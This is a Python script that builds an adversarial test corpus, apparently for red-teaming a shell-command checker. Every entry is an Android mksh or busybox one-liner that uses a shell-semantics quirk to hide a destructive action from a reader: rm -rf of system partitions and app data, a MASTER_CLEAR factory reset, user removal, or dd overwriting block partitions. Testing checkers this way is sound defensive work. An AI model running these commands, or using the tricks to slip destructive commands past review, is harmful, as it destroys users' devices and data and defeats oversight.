#!/usr/bin/env python3
"""Round 10, attacker A (the shell language): the corpus as Python data.

Writes corpus.jsonl next to this file. No command text goes through a host shell; every line
is run only inside the tests/sandbox jail (prove.py).
"""
import json
import pathlib

HERE = pathlib.Path(__file__).resolve().parent
L = []
MK = ["mksh"]
BB = ["busybox"]
MC = "am broadcast -a android.intent.action.MASTER_CLEAR"


def add(family, cmd, note, shells=None, why=None):
    row = {"family": family, "cmd": cmd, "note": note}
    if shells:
        row["shells"] = shells
        row["shells_why"] = why
    L.append(row)


# ---------------------------------------------------------------- getopts-qmark
G = ("getopts on an option it does not know stores `?` in its variable (and returns 0). "
     "Expanded unquoted, that `?` is a glob character: ")
add("getopts-qmark", "getopts ab o -v 2>/dev/null; rm -rf /vendo$o",
    G + "`/vendo?` matches /vendor. No target is spelled out.")
add("getopts-qmark", "getopts h o -x 2>/dev/null; rm -rf /sdcard/$o$o$o$o$o$o",
    G + "six `?` match every six-letter storage folder (Movies, Alarms).")
add("getopts-qmark", "getopts :v o -x; rm -rf /data/user_de/$o",
    G + "in silent mode (leading `:`) too; `/data/user_de/?` is user 0's device-encrypted app data.")
add("getopts-qmark", "while getopts n o -q 2>/dev/null; do rm -rf /system_ex$o; break; done",
    G + "the loop body runs once with o=`?`, so `/system_ex?` is /system_ext.")

# ---------------------------------------------------------------- compound-status
CS = ("The exit status of a compound command whose condition failed and whose body never ran is 0, "
      "not the failed condition's status, so the `&&` that looks guarded by it always runs: ")
add("compound-status", "if [ -e /data/local/tmp/.armed ]; then echo armed; fi && rm -rf /product",
    CS + "an `if` without `else` whose test fails returns 0.")
add("compound-status", "case $MODE in armed) echo go;; esac && cmd testharness enable",
    CS + "a `case` that matches no pattern returns 0.")
add("compound-status", "for f in /data/local/tmp/*.pending; do :; done && rm -rf /system_ext",
    CS + "a `for` over a glob that matches nothing runs once on the literal word and returns 0 (`:`).")
add("compound-status", "while [ -e /data/local/tmp/lock ]; do sleep 1; done && " + MC,
    CS + "a `while` whose condition is false at once returns 0.")

# ---------------------------------------------------------------- arith-lazy
add("arith-lazy", "u=0; : $(( 1 || (u=10) )); rm -rf /data/user_de/$u",
    "mksh short-circuits `||` in arithmetic: the assignment `u=10` on its right is never evaluated, "
    "so u stays 0 and the rm hits user 0's app data. A reader that applies every assignment in the "
    "expression sees /data/user_de/10.", MK,
    "busybox 1.35 evaluates both sides of `||`, so u becomes 10 (a user that does not exist).")
add("arith-lazy", "u=0; : $(( 1 ? u : (u=10) )); rm -rf /storage/emulated/$u",
    "mksh evaluates only the chosen branch of `?:`; the `u=10` in the other branch never happens, so "
    "the rm takes the whole storage root /storage/emulated/0.", MK,
    "busybox 1.35 evaluates both branches, so u becomes 10.")
add("arith-lazy", "u=7; : $(( 0 && (u=0) )); rm -rf /storage/emulated/$u",
    "busybox evaluates the right side of `&&` even when the left is 0, so `u=0` happens and the rm "
    "takes /storage/emulated/0. A reader (and mksh) short-circuits and sees user 7.", BB,
    "mksh short-circuits, u stays 7 (no such user).")
add("arith-lazy", "u=7; : $(( 0 ? (u=0) : u )); rm -rf /storage/emulated/$u",
    "busybox evaluates BOTH branches of `?:`, so the `u=0` in the branch not taken still happens: "
    "/storage/emulated/0. A reader (and mksh) sees u stay 7.", BB, "mksh evaluates only the chosen branch; u stays 7.")

# ---------------------------------------------------------------- typeset-local
TL = ("`typeset` inside a function declares a LOCAL variable (mksh), so the \"safe\" value vanishes when "
      "the function returns (busybox has no typeset at all). A reader that takes typeset as a global "
      "declaration keeps the safe value: ")
add("typeset-local", "T=/vendor; safe() { typeset T=/data/local/tmp/x; }; safe; rm -rf \"$T\"",
    TL + "T is still /vendor.")
add("typeset-local", "A=android.intent.action.MASTER_CLEAR; arm() { typeset A=android.intent.action.VIEW; }; arm; am broadcast -a $A",
    TL + "A is still MASTER_CLEAR.")
add("typeset-local", "P='com.whatsapp com.spotify.music com.example.other com.google.android.gms'; pick() { typeset P=com.example.app; }; pick; for p in $P; do pm uninstall $p; done",
    TL + "P still holds four packages to uninstall.")

# ---------------------------------------------------------------- unset-local (mksh)
UL = ("In mksh, `unset` of a function's local variable removes the local and uncovers the GLOBAL "
      "variable of the same name; a reader expects the name to be unset inside the function, so "
      "the default applies: ")
WUL = "busybox keeps the name unset inside the function, so the harmless default is used."
add("unset-local", "T=/odm; f() { local T=/data/local/tmp/x; unset T; rm -rf \"${T:-/data/local/tmp/y}\"; }; f",
    UL + "the rm gets the global /odm.", MK, WUL)
add("unset-local", "u=0; f() { local u=10; unset u; rm -rf /storage/emulated/${u:-10}; }; f",
    UL + "u is the global 0: the whole storage root.", MK, WUL)
add("unset-local", "D=/data/user_de; g() { local D; unset D; rm -rf \"${D-/data/local/tmp/x}\"/0; }; g",
    UL + "D is the global /data/user_de, so user 0's app data goes.", MK, WUL)

# ---------------------------------------------------------------- noexec-line (mksh)
NX = ("`set -n` (noexec) makes a script stop executing, so a reader treats the rest as dead. mksh "
      "applies it only from the NEXT line of the `-c` script on; the rest of the same line still runs: ")
WNX = "busybox honours noexec at once and runs nothing after it."
add("noexec-line", "set -o noexec; " + MC, NX + "the MASTER_CLEAR broadcast is sent.", MK, WNX)
add("noexec-line", "set -o noexec; pm remove-user 10", NX + "user 10 is removed.", MK, WNX)
add("noexec-line", "set -n && cmd testharness enable", NX + "test-harness mode is enabled.", MK, WNX)

# ---------------------------------------------------------------- bracket-close
BC = ("A `]` right after `[` (or `[!`) is a member of the bracket expression, not its end. A reader "
      "that closes the bracket at the first `]` sees an empty class and a literal rest that matches nothing: ")
add("bracket-close", "rm -rf /[]s]ystem_ext", BC + "`[]s]` is the set {], s}, so this is /system_ext.")
add("bracket-close", "rm -rf /[!]]endor", BC + "`[!]]` is any character but `]`, so /vendor matches.")
add("bracket-close", "rm -rf /data/[]d]ata/*", BC + "/data/data/* (every app's data).")
add("bracket-close", "rm -rf /sdcard/[]P]*", BC + "`[]P]*` is every storage folder starting with P (Pictures, Podcasts).")

# ---------------------------------------------------------------- glob-collate
GC = ("POSIX equivalence classes `[[=c=]]` and collating symbols `[[.c.]]` inside a bracket match the "
      "character c (both shells). The `[[` inside a word is not the test keyword: ")
add("glob-collate", "rm -rf /[[=v=]]endor", GC + "/vendor.")
add("glob-collate", "rm -rf /[[.o.]]dm", GC + "/odm.")
add("glob-collate", "rm -rf /sdcard/[[=D=]]*", GC + "every storage folder starting with D (DCIM, Documents, Download).")
add("glob-collate", "rm -rf /data/[[.d.]]ata/*", GC + "/data/data/* (every app's data).")

# ---------------------------------------------------------------- status-default
SD = ("A builtin with no operand passes on a status a reader may take as fixed: ")
add("status-default", "chk() { grep -q armed /data/local/tmp/state 2>/dev/null; return; }; chk || rm -rf /vendor",
    SD + "`return` without a number returns the status of the last command (grep's 2), not 0, so "
    "the `||` branch runs.")
add("status-default", "(exit 1) & wait && rm -rf /product",
    SD + "`wait` with no operand returns 0 whatever the jobs returned; the failed job does not stop the rm.")
add("status-default", "gone() { [ -d /data/local/tmp/old ] && rm -rf /data/local/tmp/old; exit; }; (gone) || rm -rf /odm",
    SD + "a bare `exit` exits with the last status (the failed `[ -d ]`), so the subshell fails and /odm goes.")

# ---------------------------------------------------------------- cond-list
CL = ("The condition of `while`/`if` is a LIST; only its last command's status counts. A reader that "
      "takes the first command as the condition sees a loop/branch that never runs: ")
add("cond-list", "n=0; while [ -e /data/local/tmp/never ]; [ $n -lt 1 ]; do rm -rf /odm; n=1; done",
    CL + "the body runs once and deletes /odm.")
add("cond-list", "if [ -e /data/local/tmp/.armed ]; true; then cmd testharness enable; fi",
    CL + "`true` decides; test-harness mode is enabled.")
add("cond-list", "i=0; if false; [ $i = 0 ]; then rm -rf /data/user_de/0; fi",
    CL + "`false` is not the condition; `[ $i = 0 ]` is, and user 0's app data goes.")

# ---------------------------------------------------------------- bg-status
BG = ("A command ended by `&` inside a condition is started in the background and its list returns "
      "0 at once, whatever the command will return: ")
add("bg-status", "if grep -q armed /data/local/tmp/state & then rm -rf /vendor; fi",
    BG + "the `if` takes the branch although grep fails.")
add("bg-status", "{ grep -qs go /data/local/tmp/flag & } && pm remove-user 10",
    BG + "the group succeeds, user 10 is removed.")
add("bg-status", "if ! [ -d / ] & then rm -rf /product; fi",
    BG + "the `!` negates the pipeline in the background job only; the `if` sees 0.")

# ---------------------------------------------------------------- state-restore
add("state-restore", "s=$(set +o); set -f; eval \"$s\"; rm -rf /data/data/*",
    "`set +o` prints the option settings as commands; evaluating the snapshot taken before `set -f` "
    "turns globbing back on, so `/data/data/*` expands to every app's data. A reader sees noglob set.")
add("state-restore", "export T=/vendor; s=$(export -p); unset T; eval \"$s\"; rm -rf \"$T\"",
    "`export -p` prints `export T=/vendor`; evaluating it after `unset T` brings the value back. "
    "A reader sees T unset, so `rm -rf \"\"`.")
add("state-restore", "trap 'rm -rf /vendor' EXIT; s=$(trap); trap - EXIT; eval \"$s\"",
    "busybox lists the PARENT's traps from `$(trap)` (the POSIX save-and-restore idiom), so "
    "`eval \"$s\"` re-arms the EXIT trap that `trap - EXIT` looked to disarm.", BB,
    "mksh's `$(trap)` lists the subshell's (reset) traps, empty, so the trap stays disarmed.")
add("state-restore", "trap 'pm remove-user 10' EXIT; s=$(trap); trap - EXIT; eval \"$s\"",
    "busybox `$(trap)` lists the parent's traps; the eval re-arms the EXIT trap that `trap - EXIT` "
    "looked to disarm: user 10 is removed.", BB, "mksh's `$(trap)` is empty, so the trap stays disarmed.")

# ---------------------------------------------------------------- test-amb (mksh)
TA = ("With three arguments, `test` first checks for a BINARY operator in the middle: `! -a X` is "
      "`\"!\" AND \"X\"` (two non-empty strings, true), not `not (-a X)` (file does not exist). ")
WTA = "busybox's test rejects the form (`unknown operand`) and returns false."
add("test-amb", "[ ! -a / ] && rm -rf /odm", TA + "/ exists, yet the test is true and /odm goes.", MK, WTA)
add("test-amb", "[ ! -o / ] && rm -rf /product",
    TA + "The same with `-o` (OR): `[ ! -o / ]` is true.", MK, WTA)
add("test-amb", "[ ! -a /data/local/tmp ] && " + MC,
    TA + "/data/local/tmp exists, the test is still true: MASTER_CLEAR.", MK, WTA)

# ---------------------------------------------------------------- bb-applet-path (busybox)
BAP = ("busybox sh runs its own applets (rm among them) without a PATH search, so emptying PATH does not "
       "stop them. A reader that models PATH sees `rm: not found`: ")
WBAP = "mksh searches PATH and does not find rm."
add("bb-applet-path", "PATH=/data/local/tmp/empty; rm -rf /odm", BAP + "/odm.", BB, WBAP)
add("bb-applet-path", "PATH=/data/local/tmp/none; rm -rf /system_ext", BAP + "/system_ext.", BB, WBAP)
add("bb-applet-path", "PATH=/data/local/tmp/empty; dd if=/dev/zero of=/dev/block/by-name/misc count=1",
    BAP + "`dd` is an applet too: the misc partition is overwritten.", BB, WBAP)

# ---------------------------------------------------------------- path-default
add("path-default", "unset PATH; rm -rf /odm",
    "With PATH unset the shell does not give up: mksh falls back to its built-in default path "
    "(busybox to its applets), so rm is found. A reader sees no PATH and no command.")
add("path-default", "cd /system/bin && PATH= && rm -rf /odm",
    "An EMPTY PATH is one zero-length entry, which means the current directory: with cwd /system/bin, "
    "`rm` is /system/bin/rm. A reader sees an empty PATH and no command.")

# ---------------------------------------------------------------- dup-order
DO = ("Redirections are applied left to right: `2>&1 >/dev/null` points stderr at the ORIGINAL stdout "
      "(the pipe) before stdout goes to /dev/null. A reader that sees both silenced sees nothing reach `sh`: ")
add("dup-order", "{ echo skipped; echo rm -rf /odm >&2; } 2>&1 >/dev/null | sh", DO + "/odm is deleted.")
add("dup-order", "sh -c 'echo pm remove-user 10 >&2' 2>&1 >/dev/null | sh", DO + "user 10 is removed.")
add("dup-order", "( echo ok; echo cmd testharness enable 1>&2 ) 3>&1 1>/dev/null 2>&3 | sh",
    DO + "the swap idiom `3>&1 1>/dev/null 2>&3` sends stderr into the pipe: test-harness mode.")

# ---------------------------------------------------------------- signal-ignored
SI = ("`trap '' SIG` IGNORES the signal, so `kill $$` (or `-HUP`, `-INT`) does not end the shell. "
      "A reader that treats `kill $$` as the end of the script sees the rest as dead: ")
add("signal-ignored", "trap '' TERM; kill $$; rm -rf /vendor", SI + "/vendor.")
add("signal-ignored", "trap '' HUP; kill -HUP $$; cmd testharness enable", SI + "test-harness mode.")

# ---------------------------------------------------------------- exec-bypass (busybox)
EB = ("`exec NAME` in busybox looks NAME up on PATH only, skipping the function of that name, so a "
      "dry-run wrapper function does not apply: ")
WEB = "mksh's exec calls the function (the dry-run prints and nothing happens)."
add("exec-bypass", "rm() { echo dry-run: rm \"$@\"; }; exec rm -rf /product", EB + "/product.", BB, WEB)
add("exec-bypass", "pm() { echo skip pm \"$@\"; }; exec pm remove-user 10", EB + "user 10 is removed.", BB, WEB)
add("exec-bypass", "dd() { echo would write \"$@\"; }; exec dd if=/dev/zero of=/dev/block/by-name/userdata count=8",
    EB + "the userdata partition is overwritten.", BB, WEB)

# ---------------------------------------------------------------- errexit-subst (busybox)
ES = ("busybox does not apply `set -e` inside a command substitution: `$(false; echo X)` goes on and "
      "yields X. A reader (and mksh) stops at `false`, so the value is empty and the default applies: ")
WES = "mksh's substitution exits at `false`, the value is empty and the harmless default is used."
add("errexit-subst", "set -e; T=$(false; echo /vendor); rm -rf \"${T:-/data/local/tmp/none}\"", ES + "/vendor.", BB, WES)
add("errexit-subst", "set -e; A=$(false; echo android.intent.action.MASTER_CLEAR); am broadcast -a \"${A:-android.intent.action.VIEW}\"",
    ES + "MASTER_CLEAR.", BB, WES)
add("errexit-subst", "set -e; P=$(false; pm list packages | cut -d: -f2); for p in ${P:-com.example.app}; do pm clear $p; done",
    ES + "every package on the device is cleared instead of one.", BB, WES)

(HERE / "corpus.jsonl").write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in L))
print(len(L), "lines")
